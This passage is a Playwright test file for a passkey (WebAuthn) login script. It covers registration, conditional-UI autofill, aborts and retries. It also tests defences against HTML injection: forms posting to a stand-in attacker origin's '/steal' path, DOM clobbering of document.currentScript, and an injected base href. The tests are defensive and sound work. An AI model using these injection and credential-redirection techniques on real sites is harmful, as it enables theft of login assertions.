    assert.deepEqual(tab.errors, []);
  });

  test('the script own base64url decoder and encoder (no parse*FromJSON, no toJSON) give verifiable credentials', async () => {
    const tab = await openTab({ noJsonHelpers: true });
    await tab.page.goto(`${base}/registration?case=${newCase('nojson-probe')}`);
    await loaded(tab);
    assert.equal(await tab.page.evaluate('typeof PublicKeyCredential.parseCreationOptionsFromJSON'), 'undefined');
    assert.equal(await tab.page.evaluate('typeof PublicKeyCredential.prototype.toJSON'), 'undefined');
    for (const algs of ['-8,-7,-257', '-7,-8,-257']) {
      await tab.cdp.send('WebAuthn.clearCredentials', { authenticatorId: tab.authenticatorId });
      const { credentialId, userId } = await register(tab, algs);
      const caseId = newCase('nojson-login');
      const sub = await clickAndSubmit(tab, `/login?case=${caseId}&cond=0`, caseId);
      assertVerified(sub);
      assert.equal(sub.credentialId, credentialId);
      assert.equal(sub.userHandle, userId);
      const caseId2 = newCase('nojson-settings');
      const sub2 = await clickAndSubmit(
        tab,
        `/settings?case=${caseId2}&user=${userId}&exclude=AAAAAAAAAAAAAAAAAAAAAA`,
        caseId2,
      );
      assertVerified(sub2);
    }
    assert.deepEqual(tab.errors, []);
  });

  for (const cond of ['attr', 'autocomplete'] as const) {
    test(`conditional UI starts on load (${cond === 'attr' ? 'data-onloadtrigger' : 'autocomplete webauthn'}) and posts a verified assertion`, async () => {
      const tab = await openTab();
      const { credentialId } = await register(tab);
      const caseId = newCase(`conditional-${cond}`);
      // The virtual authenticator answers a conditional request at once, so the page logs in by itself.
      await tab.page.goto(`${base}/login?case=${caseId}&cond=${cond}`);
      await waitFor(() => submissionsOf(caseId).length > 0, 'the conditional login post');
      await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
      const subs = submissionsOf(caseId);
      assert.equal(subs.length, 1);
      assertVerified(subs[0]!);
      assert.equal(subs[0]!.credentialId, credentialId);
      const gets = tab.calls.filter((c) => c.op === 'get' && c.phase === 'call');
      assert.deepEqual(gets, [{ op: 'get', mediation: 'conditional', phase: 'call' }]);
      assert.deepEqual(tab.errors, []);
    });
  }

  test('conditional UI also starts for a login form rendered later (MutationObserver)', async () => {
    const tab = await openTab();
    await register(tab);
    const caseId = newCase('conditional-late');
    await tab.page.goto(`${base}/login?case=${caseId}&cond=autocomplete&late=1`);
    await waitFor(() => submissionsOf(caseId).length > 0, 'the conditional login post');
    assert.equal(submissionsOf(caseId).length, 1);
    assertVerified(submissionsOf(caseId)[0]!);
    assert.deepEqual(tab.errors, []);
  });

  test('a click aborts the pending conditional request before its own ceremony', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    // Without presence the conditional request stays pending (as a real one does until the user picks a passkey).
    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', {
      authenticatorId: tab.authenticatorId,
      enabled: false,
    });
    const caseId = newCase('abort');
    const callsBefore = tab.calls.length;
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr`);
    await waitFor(
      () => tab.calls.slice(callsBefore).some((c) => c.mediation === 'conditional' && c.phase === 'call'),
      'the conditional request',
    );
    await tab.page.waitForTimeout(100);
    assert.equal(submissionsOf(caseId).length, 0);
    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', {
      authenticatorId: tab.authenticatorId,
      enabled: true,
    });
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('button[name="passkey_login_trigger"]'),
    ]);
    const subs = submissionsOf(caseId);
    assert.equal(subs.length, 1);
    assertVerified(subs[0]!);
    assert.equal(subs[0]!.credentialId, credentialId);
    const mine = tab.calls.slice(callsBefore);
    assert.deepEqual(
      mine.filter((c) => c.mediation === 'conditional' && c.phase !== 'call'),
      [{ op: 'get', mediation: 'conditional', phase: 'error', error: 'AbortError' }],
      'the conditional request was aborted',
    );
    assert.deepEqual(
      mine.filter((c) => c.mediation === 'optional').map((c) => c.phase),
      ['call', 'ok'],
      'the modal request succeeded',
    );
    assert.deepEqual(tab.errors, []);
  });

  test('a new challenge in passkey_challenge (a new flow) restarts conditional UI with it', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', {
      authenticatorId: tab.authenticatorId,
      enabled: false,
    });
    const caseId = newCase('new-challenge');
    const callsBefore = tab.calls.length;
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr`);
    const conditionalCalls = () =>
      tab.calls.slice(callsBefore).filter((c) => c.mediation === 'conditional' && c.phase === 'call').length;
    await waitFor(() => conditionalCalls() === 1, 'the first conditional request');
    const fresh = await (await fetch(`${base}/login-options`)).text();
    await tab.page.evaluate(
      `document.getElementsByName('passkey_challenge')[0].setAttribute('value', ${JSON.stringify(fresh)})`,
    );
    await waitFor(() => conditionalCalls() === 2, 'a second conditional request');
    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', {
      authenticatorId: tab.authenticatorId,
      enabled: true,
    });
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('button[name="passkey_login_trigger"]'),
    ]);
    const subs = submissionsOf(caseId);
    assert.equal(subs.length, 1);
    assertVerified(subs[0]!);
    assert.equal(subs[0]!.credentialId, credentialId);
    const clientData = decodeClientDataJSON(JSON.parse(subs[0]!.body['passkey_login']!).response.clientDataJSON);
    assert.equal(clientData.challenge, JSON.parse(fresh).publicKey.challenge, 'signed the new challenge');
    assert.deepEqual(
      tab.calls
        .slice(callsBefore)
        .filter((c) => c.mediation === 'conditional' && c.phase !== 'call')
        .map((c) => c.error),
      ['AbortError', 'AbortError'],
    );
    assert.deepEqual(tab.errors, []);
  });

  test('a failed ceremony is logged, leaves the page usable, and can be retried', async () => {
    const tab = await openTab();
    const { credentialId, userId } = await register(tab);
    const { credentials: saved } = await tab.cdp.send('WebAuthn.getCredentials', {
      authenticatorId: tab.authenticatorId,
    });
    await tab.cdp.send('WebAuthn.clearCredentials', { authenticatorId: tab.authenticatorId });

    // Login with no passkey on the authenticator: NotAllowedError.
    const caseId = newCase('retry-login');
    await tab.page.goto(`${base}/login?case=${caseId}&cond=0`);
    await loaded(tab);
    const url = tab.page.url();
    const warned = tab.page.waitForEvent('console', { predicate: (m) => m.type() === 'warning', timeout: 5000 });
    await tab.page.click('button[name="passkey_login_trigger"]');
    assert.match((await warned).text(), /NotAllowedError/);
    await tab.page.waitForTimeout(100);
    assert.equal(tab.page.url(), url);
    assert.equal(submissionsOf(caseId).length, 0);
    assert.equal(await tab.page.inputValue('input[name="passkey_login"]'), '');

    // The passkey is back: the same button on the same page now logs in.
    await tab.cdp.send('WebAuthn.addCredential', { authenticatorId: tab.authenticatorId, credential: saved[0]! });
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('button[name="passkey_login_trigger"]'),
    ]);
    assert.equal(submissionsOf(caseId).length, 1);
    assertVerified(submissionsOf(caseId)[0]!);
    assert.equal(submissionsOf(caseId)[0]!.credentialId, credentialId);

    // Settings with the existing passkey excluded: InvalidStateError, no post.
    const caseId2 = newCase('retry-settings');
    await tab.page.goto(`${base}/settings?case=${caseId2}&user=${userId}&exclude=${credentialId}`);
    await loaded(tab);
    const warned2 = tab.page.waitForEvent('console', { predicate: (m) => m.type() === 'warning', timeout: 5000 });
    await tab.page.click('button[name="passkey_register_trigger"]');
    assert.match((await warned2).text(), /InvalidStateError/);
    await tab.page.waitForTimeout(100);
    assert.equal(submissionsOf(caseId2).length, 0);

    // A broken passkey_create_data: a warning, no exception.
    const caseId3 = newCase('broken-data');
    await tab.page.goto(`${base}/registration?case=${caseId3}`);
    await loaded(tab);
    await tab.page.evaluate(`document.getElementsByName('passkey_create_data')[0].value = '{not json'`);
    const warned3 = tab.page.waitForEvent('console', { predicate: (m) => m.type() === 'warning', timeout: 5000 });
    await tab.page.click('button[name="passkey_register_trigger"]');
    assert.match((await warned3).text(), /SyntaxError/);
    assert.equal(submissionsOf(caseId3).length, 0);

    assert.deepEqual(tab.errors, [], 'no uncaught exception or unhandled rejection');
  });

  test('a registration trigger rendered after load (client-side UI) works through the delegated listener', async () => {
    const tab = await openTab();
    const caseId = newCase('late-registration');
    const sub = await clickAndSubmit(tab, `/registration?case=${caseId}&late=1&algs=-8,-7,-257`, caseId, async () => {
      await tab.page.waitForSelector('input[name="traits.email"]');
      await tab.page.fill('input[name="traits.email"]', 'late@example.com');
    });
    assertVerified(sub);
    assert.equal(sub.alg, -8);
    assert.deepEqual(tab.errors, []);
  });

  // ---- HTML injection: forms that do not post to this library's flow actions ---------------------------------------

  /** Requests that reached the attacker's server with something in them (an <img> GET carries nothing). */
  const evilPostsSince = (n: number) =>
    evilHits.slice(n).filter((h) => h.method !== 'GET' || h.url.includes('passkey'));

  async function setPresence(tab: Tab, enabled: boolean): Promise<void> {
    await tab.cdp.send('WebAuthn.setAutomaticPresenceSimulation', { authenticatorId: tab.authenticatorId, enabled });
  }

  /** Clicks an injected trigger and waits for the script's warning about its form. */
  async function clickIgnored(tab: Tab, selector: string): Promise<string> {
    const warned = tab.page.waitForEvent('console', {
      predicate: (m) => m.type() === 'warning' && m.text().includes(': ignor'),
      timeout: 5000,
    });
    await tab.page.click(selector);
    return (await warned).text();
  }

  test('click variant: triggers in injected forms posting elsewhere run no ceremony and post nothing; the flow form works', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    // Without presence the flow form's conditional request stays pending: the injected clicks must not abort it.
    await setPresence(tab, false);
    const caseId = newCase('inject-click');
    const [hits, stray, callsBefore] = [evilHits.length, strayPosts.length, tab.calls.length];
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=click`);
    await loaded(tab);
    await waitFor(() => tab.calls.length > callsBefore, 'the conditional request');
    const url = tab.page.url();
    const refused = {
      'evil-steal': `${evilOrigin}/steal`,
      'evil-path': `${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`,
      'evil-same-origin': `${origin}/steal?flow=x`,
      'evil-no-flow': `${origin}${MOUNT}/self-service/login`,
      'evil-get': `${origin}${MOUNT}/self-service/login?flow=attacker-flow`,
    };
    for (const [id, action] of Object.entries(refused)) {
      const text = await clickIgnored(tab, `#${id} button`);
      assert.ok(text.includes(`passkey login: ignoring a form posting to ${action}, `), text);
      assert.ok(text.endsWith(`not to a flow action of ${origin}${MOUNT}`), text);
    }
    await tab.page.waitForTimeout(200);
    assert.equal(tab.page.url(), url, 'no navigation (the submit-type trigger did not submit natively either)');
    assert.deepEqual(
      tab.calls.slice(callsBefore),
      [{ op: 'get', mediation: 'conditional', phase: 'call' }],
      'no ceremony for an injected form, and the pending conditional request was not aborted',
    );
    assert.deepEqual(
      await tab.page.evaluate(
        `[...document.querySelectorAll('form[id^="evil-"] input[name="passkey_login"]')].map((i) => i.value)`,
      ),
      ['', '', '', '', ''],
    );
    assert.deepEqual(evilPostsSince(hits), []);
    assert.deepEqual(strayPosts.slice(stray), []);
    assert.equal(submissionsOf(caseId).length, 0);

    // The flow form on the same page: its button aborts the pending conditional request and posts a verified login.
    await setPresence(tab, true);
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('#flow button[name="passkey_login_trigger"]'),
    ]);
    const subs = submissionsOf(caseId);
    assert.equal(subs.length, 1);
    assertVerified(subs[0]!);
    assert.equal(subs[0]!.credentialId, credentialId);
    const mine = tab.calls.slice(callsBefore);
    assert.deepEqual(
      mine.filter((c) => c.mediation === 'conditional').map((c) => `${c.phase}:${c.error ?? ''}`),
      ['call:', 'error:AbortError'],
      'the flow form trigger aborted the pending conditional request',
    );
    assert.deepEqual(
      mine.filter((c) => c.mediation === 'optional').map((c) => c.phase),
      ['call', 'ok'],
    );
    assert.deepEqual(evilPostsSince(hits), []);
    assert.deepEqual(strayPosts.slice(stray), []);
    assert.deepEqual(tab.errors, []);
  });

  test('autofill variant: conditional UI runs for the flow form only, not for injected forms before or after it', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    const caseId = newCase('inject-autofill');
    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
    // The virtual authenticator answers the pending conditional request at once, as a user picking the passkey in
    // autofill would: whichever form it was started for gets the assertion.
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=autofill`);
    await waitFor(() => submissionsOf(caseId).length > 0, 'the conditional login post');
    await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
    const subs = submissionsOf(caseId);
    assert.equal(subs.length, 1);
    // Verified against a challenge this server issued: the flow form's, not the attacker's.
    assertVerified(subs[0]!);
    assert.equal(subs[0]!.credentialId, credentialId);
    assert.deepEqual(
      tab.calls.slice(callsBefore).filter((c) => c.phase === 'call'),
      [{ op: 'get', mediation: 'conditional', phase: 'call' }],
      'one conditional request',
    );
    for (const action of [`${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`, `${evilOrigin}/steal`]) {
      assert.ok(
        tab.warnings.some((w) => w.includes(`passkey autofill: ignoring a form posting to ${action}, `)),
        `${action} ignored: ${tab.warnings.join(' | ')}`,
      );
    }
    assert.deepEqual(evilPostsSince(hits), []);
    assert.deepEqual(tab.errors, []);
  });

  test('named elements cannot clobber document.currentScript or the DOM methods the script uses', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    await setPresence(tab, false);
    const caseId = newCase('inject-clobber');
    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=clobber`);
    await loaded(tab);
    await waitFor(() => tab.calls.length > callsBefore, 'the conditional request');
    // The clobbering is live: document.currentScript is the attacker's <img>, the methods are elements.
    assert.deepEqual(
      await tab.page.evaluate(
        `[document.currentScript.tagName, document.currentScript.src, typeof document.getElementsByName, document.readyState.tagName, window.__expressPasskeysWebauthn]`,
      ),
      ['IMG', `${evilOrigin}${SCRIPT_PATH}`, 'object', 'IMG', true],
    );
    const text = await clickIgnored(tab, '#evil-clobber button');
    assert.ok(text.includes(`ignoring a form posting to ${evilOrigin}${MOUNT}/self-service/login?flow=attacker-flow`));
    assert.ok(
      tab.warnings.some((w) =>
        w.startsWith(`[webauthn.js] passkey autofill: ignoring a form posting to ${evilOrigin}`),
      ),
    );
    await setPresence(tab, true);
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.click('#flow button[name="passkey_login_trigger"]'),
    ]);
    assert.equal(submissionsOf(caseId).length, 1);
    assertVerified(submissionsOf(caseId)[0]!);
    assert.equal(submissionsOf(caseId)[0]!.credentialId, credentialId);
    assert.deepEqual(
      tab.calls
        .slice(callsBefore)
        .filter((c) => c.phase === 'call')
        .map((c) => c.mediation),
      ['conditional', 'optional'],
    );
    assert.deepEqual(evilPostsSince(hits), []);
    assert.deepEqual(tab.errors, []);
  });

  test('called without an element (as Ory Elements does), the functions pick the flow form, not injected ones', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    const [hits, stray] = [evilHits.length, strayPosts.length];

    // Autofill: the injected forms ask for it (and are ignored); the flow form does not, until the UI library asks.
    const caseId = newCase('no-element-autofill');
    const callsBefore = tab.calls.length;
    await tab.page.goto(`${base}/login?case=${caseId}&cond=0&inject=autofill`);
    await loaded(tab);
    await tab.page.waitForTimeout(100);
    assert.equal(tab.calls.length, callsBefore, 'no conditional request for the injected forms');
    await tab.page.evaluate('void window.oryPasskeyLoginAutocompleteInit()');
    await tab.page.waitForURL(isFlowPost, { timeout: 5000 });
    assert.equal(submissionsOf(caseId).length, 1);
    assertVerified(submissionsOf(caseId)[0]!);
    assert.equal(submissionsOf(caseId)[0]!.credentialId, credentialId);

    // The modal login, with injected forms before and after the flow form.
    const caseId2 = newCase('no-element-login');
    await tab.page.goto(`${base}/login?case=${caseId2}&cond=0&inject=click`);
    await loaded(tab);
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.evaluate('void window.__oryPasskeyLogin()'),
    ]);
    assert.equal(submissionsOf(caseId2).length, 1);
    assertVerified(submissionsOf(caseId2)[0]!);

    // Registration (the display name is read from the flow form).
    const caseId3 = newCase('no-element-registration');
    await tab.page.goto(`${base}/registration?case=${caseId3}&inject=click`);
    await loaded(tab);
    await tab.page.fill('input[name="traits.email"]', 'noel@example.com');
    await Promise.all([
      tab.page.waitForURL(isFlowPost, { timeout: 5000 }),
      tab.page.evaluate('void window.oryPasskeyRegistration()'),
    ]);
    assert.equal(submissionsOf(caseId3).length, 1);
    assertVerified(submissionsOf(caseId3)[0]!);
    assert.equal(submissionsOf(caseId3)[0]!.body['traits.email'], 'noel@example.com');

    assert.deepEqual(evilPostsSince(hits), []);
    assert.deepEqual(strayPosts.slice(stray), []);
    assert.deepEqual(tab.errors, []);
  });

  test('the script loaded from another origin than the page: the form must post to the script origin', async () => {
    const tab = await openTab();
    const { credentialId } = await register(tab);
    const caseId = newCase('cross-origin');
    await tab.page.goto(`${origin2}/login?case=${caseId}&cond=0&xo=1`);
    await loaded(tab);
    assert.equal(
      await tab.page.evaluate('document.getElementById("flow").action'),
      `${origin}${MOUNT}/self-service/login?flow=${caseId}`,
    );
    await Promise.all([
      tab.page.waitForURL((u) => u.origin === origin && isFlowPost(u), { timeout: 5000 }),
      tab.page.click('#flow button[name="passkey_login_trigger"]'),
    ]);
    const sub = submissionsOf(caseId)[0]!;
    assertVerified(sub);
    assert.equal(sub.credentialId, credentialId);
    const clientData = decodeClientDataJSON(JSON.parse(sub.body['passkey_login']!).response.clientDataJSON);
    assert.equal(clientData.origin, origin2, 'signed for the page origin');

    // The same page with a relative action: it posts to the page's own origin, not the script's, so it is refused.
    const caseId2 = newCase('cross-origin-relative');
    const callsBefore = tab.calls.length;
    await tab.page.goto(`${origin2}/login?case=${caseId2}&cond=0&xo=1&rel=1`);
    await loaded(tab);
    const text = await clickIgnored(tab, '#flow button[name="passkey_login_trigger"]');
    assert.ok(
      text.includes(`ignoring a form posting to ${origin2}${MOUNT}/self-service/login?flow=${caseId2}, `),
      text,
    );
    assert.ok(text.endsWith(`not to a flow action of ${origin}${MOUNT}`), text);
    await tab.page.waitForTimeout(100);
    assert.equal(tab.calls.length, callsBefore);
    assert.equal(submissionsOf(caseId2).length, 0);
    assert.deepEqual(tab.errors, []);
  });

  test('a <base href> injected after the script tag cannot move where a relative script src says it came from', async () => {
    const tab = await openTab();
    await register(tab);
    const caseId = newCase('inject-base');
    const [hits, callsBefore] = [evilHits.length, tab.calls.length];
    // The script's response is delayed, so it runs after the parser has seen the injected <base>.
    await tab.page.goto(`${base}/login?case=${caseId}&cond=attr&inject=base&delay=300`);
    await loaded(tab);
    assert.deepEqual(
      await tab.page.evaluate(`[document.baseURI, document.getElementById('webauthn_script').src.split('?')[0]]`),
      [`${evilOrigin}/`, `${evilOrigin}${SCRIPT_PATH}`],
      'the base is live: the relative src now resolves to the attacker',
    );
    assert.ok(
      tab.warnings.some((w) => w.includes('passkeys are off')),
      tab.warnings.join(' | '),
    );
    // The injected form's relative action resolves to the attacker's copy of the flow path: refused.
    const text = await clickIgnored(tab, '#evil-base button');
    assert.ok(text.includes('passkey login: ignored, passkeys are off'), text);
    await tab.page.waitForTimeout(100);
    assert.equal(tab.calls.length, callsBefore, 'no ceremony at all (nor conditional UI)');
    assert.deepEqual(evilPostsSince(hits), []);
    assert.equal(submissionsOf(caseId).length, 0);
    assert.deepEqual(tab.errors, []);
  });
});
